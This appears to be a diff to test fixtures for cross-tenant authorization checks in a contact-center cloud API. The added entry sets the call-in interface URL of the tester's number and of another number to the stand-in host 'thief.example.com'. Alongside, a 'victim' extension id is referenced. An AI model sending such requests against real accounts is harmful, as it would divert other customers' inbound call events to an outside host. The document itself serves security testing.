@@ -107,6 +107,10 @@ export const actionRows: Readonly<Record<string, Aim>> = {
   UnbindNumberCallOutSkillGroup: ({ number, skillGroupId }, as) => [
     { SdkAppId: as, Number: number, SkillGroupIds: [skillGroupId] },
   ],
+  BindNumberCallInInterface: ({ number, ownNumber }, as) => [
+    { SdkAppId: as, Number: ownNumber, CallInInterface: { URL: 'https://thief.example.com' } },
+    { SdkAppId: as, Number: number, CallInInterface: { URL: 'https://thief.example.com' } },
+  ],
   CreateExtension: ({ skillGroupId }, as) => [
     // The victim has one of this id.
     { SdkAppId: as, ExtensionId: victimExtension, ExtensionName: 'x' },
